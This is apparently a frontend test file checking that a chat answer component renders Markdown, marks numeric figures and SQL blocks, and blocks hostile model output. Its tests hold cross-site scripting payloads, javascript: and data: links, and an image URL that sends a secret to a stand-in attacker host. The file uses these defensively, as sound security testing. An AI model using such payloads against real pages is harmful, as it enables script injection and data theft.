// Answers as Markdown: what is shown, what never becomes markup, and figures that stay where they are in the text.
import { screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { show } from '../../../testing/show.tsx';
import { AnswerText } from './answer-text.tsx';
import type { Figure, Statement } from './chat-state.ts';
import { partsOf } from './markdown.ts';

/** A figure at the first place of its words in the text. */
const figureIn = (text: string, words: string, is_proven = false): Figure => {
  const start = text.indexOf(words);
  const link = is_proven ? { step: 1, link: '/servers/1?tab=locks' } : {};
  return { text: words, start, end: start + words.length, is_proven, ...link };
};

const answer = (text: string, figures: readonly Figure[] = [], statements: readonly Statement[] = []) => {
  const { container } = show(
    <AnswerText text={text} figures={figures} statements={statements} isRunning={false} />,
  );
  return container;
};

const unproven = (place: Element) =>
  [...place.querySelectorAll('[title^="No step"]')].map((one) => one.firstChild?.textContent);

describe('what it shows', () => {
  it('has lists, tables, code, emphasis and headings', () => {
    const place = answer(
      '## Locks\n\nIt **waits** for `orders`:\n\n1. one\n2. two\n   - deep\n\n| table | rows |\n| - | - |\n| orders | 4711 |\n\n```\nplain\n```',
    );
    expect(screen.getByRole('heading', { name: 'Locks' })).toBeTruthy();
    expect(place.querySelector('strong')?.textContent).toBe('waits');
    expect(place.querySelector('p code')?.textContent).toBe('orders');
    expect([...place.querySelectorAll('ol > li')].length).toBe(2);
    expect(place.querySelector('ol ul')?.textContent).toBe('deep');
    expect(screen.getByRole('cell', { name: '4711' })).toBeTruthy();
    expect(place.querySelector('pre')?.textContent).toBe('plain');
  });

  it('makes of blocks of SQL what their server said of them, and of others code', () => {
    const text = 'Try:\n\n```sql\nselect 1\n```\n\nOr:\n\n```sql\nselect 2\n```\n';
    const start = text.indexOf('```sql');
    const judged: Statement = {
      ...{ type: 'statement', start, end: start + '```sql\nselect 1\n```'.length, sql: 'select 1' },
      ...{ connection_id: 1, can_run: true, reason: null, plan: 'Result' },
    };
    const place = answer(text, [], [judged]);
    expect(screen.getAllByRole('button', { name: 'Run' }).length).toBe(1);
    const blocks = [...place.querySelectorAll('figure')].map((one) => one.querySelector('pre')?.textContent);
    expect(blocks).toEqual(['select 1', 'Result', 'select 2']);
  });

  it('shows a statement whose block is not there below', () => {
    const far: Statement = {
      ...{ type: 'statement', start: 900, end: 950, sql: 'select 3', connection_id: 1 },
      ...{ can_run: false, reason: 'No such table.' },
    };
    expect(answer('Nothing.', [], [far]).querySelector('pre')?.textContent).toBe('select 3');
  });
});

describe('figures', () => {
  it.each([
    ['emphasis', 'It holds **12 ms** now.', '12 ms'],
    ['a list', '- one\n- it takes 9 min\n', '9 min'],
    ['a table', '| a | b |\n| - | - |\n| x | 4711 |\n', '4711'],
    ['a heading', '# 7 waits', '7'],
    ['a quotation of two lines', '> it waits\n> for 33 s.', '33 s'],
    ['escapes', 'a \\* b \\_ c 88 %', '88 %'],
    ['references to characters', 'Q&amp;A &lt; 55 MB', '55 MB'],
    ['markup as text', '<b>66 s</b>', '66 s'],
    ['letters of two units', '🐘🐘 4 GB', '4 GB'],
    ['a link', '[see 21 locks](/servers/1)', '21'],
  ])('are marked in %s', (_name, text, words) => {
    expect(unproven(answer(text, [figureIn(text, words)]))).toEqual([words]);
  });

  it('are marked on both sides of where emphasis ends', () => {
    const text = 'It holds **12** ms now.';
    expect(unproven(answer(text, [figureIn(text, '12** ms')]))).toEqual(['12', ' ms']);
  });

  it('with proof leave a link whole', () => {
    const text = 'It is [server 1](/servers/1).';
    answer(text, [figureIn(text, '1', true)]);
    expect(screen.getAllByRole('link').map((one) => one.textContent)).toEqual(['server 1']);
  });

  it('lead to their page, at their place far behind in a long answer', () => {
    const text = `${'It waits, as **always**, for a lock.\n\n'.repeat(200)}Since 4711 s.\n`;
    const place = answer(text, [figureIn(text, '4711 s', true)]);
    const link = screen.getByRole('link', { name: '4711 s' });
    expect(link.getAttribute('href')).toBe('/servers/1?tab=locks');
    expect(link.closest('p')?.textContent).toBe('Since 4711 s.');
    expect(partsOf(text).length).toBeGreaterThan(5);
    expect(place.querySelectorAll('strong').length).toBe(200);
  });

  it('without proof are named where they cannot be marked', () => {
    const text = 'It takes &#49;&#50; ms, or\n\n    99 s\n';
    const place = answer(text, [figureIn(text, '&#49;&#50; ms'), figureIn(text, '99 s')]);
    expect(unproven(place)).toEqual(['12 ms']);
    expect(screen.getByText('Not shown by any step: 99 s')).toBeTruthy();
  });
});

describe('what a hostile model writes', () => {
  const LINKS = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'http://evil.example/',
    'https://evil.example/?q=secret',
    '//evil.example/',
    '/\\evil.example/',
    '/\t/evil.example',
    '/servers/../link#token',
    '/servers/%2e%2e/link',
    '/link#token',
    '/sign-in?next=/x',
    '/api/v1/auth/logout',
    '/mcp/v1',
    '/servers//evil.example',
    'mailto:a@b.example',
    'servers/1',
    '#page',
  ];
  it.each(LINKS)('opens no link to %s', (to) => {
    const place = answer(`[here](<${to}>) [there]( ${to} ) <${to}>\n\n[ref][1]\n\n[1]: ${to}\n`);
    expect(place.querySelector('a')).toBeNull();
    expect(place.textContent).toContain('here');
  });

  it('opens pages of its own', () => {
    answer('[a](/servers/1?tab=locks&at=2026-11-20T10%3A15%3A00Z) [`b`](/findings/7) [c](/)');
    expect(screen.getAllByRole('link').map((one) => one.getAttribute('href'))).toEqual([
      '/servers/1?tab=locks&at=2026-11-20T10%3A15%3A00Z',
      '/findings/7',
      '/',
    ]);
  });

  it.each([
    '![x](http://evil.example/p.png?q=secret)',
    '[![x](http://evil.example/p.png)](/servers/1)',
    '![x][1]\n\n[1]: http://evil.example/p.png',
    '<img src=x onerror=alert(1)>',
    'a <svg/onload=alert(1)> <a href="javascript:alert(1)">b</a> <style>*{color:red}</style>',
    '<script>alert(1)</script>\n\n<iframe src="//evil.example"></iframe>\n\n<form action=/x><input></form>',
    '> - <details open ontoggle=alert(1)>\n>   <video src=//evil.example>',
    '| a |\n| - |\n| <img src=//evil.example> |',
    '```html" onload="x\n<script>1</script>\n```',
  ])('makes no markup and no picture of %s', (text) => {
    const place = answer(text);
    const tags = [
      'img',
      'svg[onload]',
      'script',
      'iframe',
      'style',
      'form',
      'video',
      'details',
      'a[href*="evil"]',
    ];
    expect(tags.flatMap((tag) => [...place.querySelectorAll(tag)])).toEqual([]);
    expect([...place.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())).not.toContain(
      'onload',
    );
    expect(place.textContent).not.toBe('');
  });

  const fill = (text: string) => text.repeat(Math.ceil(200_000 / text.length)).slice(0, 200_000);
  it.each([
    '>',
    '- ',
    '1. ',
    '>- ',
    '[',
    '![',
    '[a](b)',
    '*a ',
    '**a *',
    '`a``',
    '|',
    'a|b\n-|-\n',
    'a\n-\n',
    '<a ',
    '&a',
    'a\n\n',
    '```\n',
    '# 1\n',
    '\t',
  ])('draws 200,000 characters of %j, and the figure behind them', (text) => {
    const whole = `${fill(text)} 4711 s`;
    const place = answer(whole, [figureIn(whole, '4711 s')]);
    expect(unproven(place)).toEqual(['4711 s']);
  });

  it('nests no deeper than can be drawn, and shows what is deeper as it is written', () => {
    const text = `${'> '.repeat(300)}deep 12 ms`;
    const place = answer(text, [figureIn(text, '12 ms')]);
    expect(place.querySelectorAll('blockquote').length).toBeLessThan(20);
    expect(unproven(place)).toEqual(['12 ms']);
  });
});
